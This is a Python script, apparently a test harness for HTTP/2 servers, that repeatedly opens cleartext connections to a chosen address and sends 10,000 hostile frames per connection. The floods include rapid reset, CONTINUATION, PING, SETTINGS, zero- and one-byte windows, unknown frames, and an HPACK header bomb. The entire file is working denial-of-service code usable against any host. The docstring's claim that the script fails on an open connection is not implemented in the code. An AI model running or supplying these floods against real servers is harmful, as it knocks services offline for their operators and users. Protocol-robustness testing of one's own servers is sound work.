"""Opens one connection of HTTP/2 in clear after another and floods it with frames, as clients that attack do.

Arguments: the kind of flood, the address, the port, and seconds from one connection to the next. It fails if a connection is
still open after 10,000 frames.
"""

import socket
import struct
import sys
import time

FRAMES_MAX = 10_000
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def text(value):
    return bytes([len(value)]) + value


# GET, http, /; then :authority as a literal that is not indexed.
BLOCK = b"\x82\x86\x84\x01" + text(b"a")
# A field of 4,000 bytes that enters the dynamic table, and references to it: 400 KB of fields in 100 bytes.
BOMB = b"\x40" + text(b"x") + b"\x7f\xa1\x1e" + b"y" * 4000


def frames(kind, number):
    stream = 2 * number + 1
    if kind == "rapid-reset":
        return frame(1, 4, stream, BLOCK) + frame(3, 0, stream, struct.pack(">I", 8))
    if kind == "continuation":
        return frame(9, 0, 1) if number else frame(1, 1, 1, BLOCK)
    if kind == "ping":
        return frame(6, 0, 0, b"flooding")
    if kind == "settings":
        return frame(4, 0, 0, struct.pack(">HI", 4, 65535))
    if kind == "priority":
        return frame(2, 0, 3, b"\0\0\0\1\1")
    if kind == "empty-data":
        return frame(0, 0, 1) if number else frame(1, 4, 1, BLOCK)
    if kind == "window-updates":
        # Too small to overflow the window, but nothing was sent that they could be for.
        return frame(8, 0, 0, struct.pack(">I", 1))
    if kind == "provoked-reset":
        return frame(1, 4, stream, BLOCK) + frame(8, 0, stream, struct.pack(">I", 0))
    if kind == "one-byte-windows":
        return frame(8, 0, 1, struct.pack(">I", 1)) if number else frame(4, 0, 0, struct.pack(">HI", 4, 0)) + frame(1, 5, 1, BLOCK)
    if kind == "unknown-frames":
        return frame(0xFE, 0, 0, b"unknown")
    if kind == "header-bomb":
        return frame(1, 5, stream, BLOCK + (b"\xbe" * 100 if number else BOMB))
    raise SystemExit(f"there is no flood {kind}")


def flood(sent, address, port):
    with socket.create_connection((address, port), timeout=20) as connection:
        try:
            connection.sendall(sent)
            while connection.recv(65536):
                pass
        except (ConnectionResetError, BrokenPipeError):
            pass


def main():
    kind, address, port, every = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
    # Made once: the healthy client shares this program's core, and should not wait for its work.
    sent = b"" if kind == "none" else PREFACE + frame(4, 0, 0) + b"".join(frames(kind, number) for number in range(FRAMES_MAX))
    begun, count = time.monotonic(), 0
    while True:
        if sent:
            flood(sent, address, port)
        count += 1
        time.sleep(max(0.0, begun + count * every - time.monotonic()))


main()
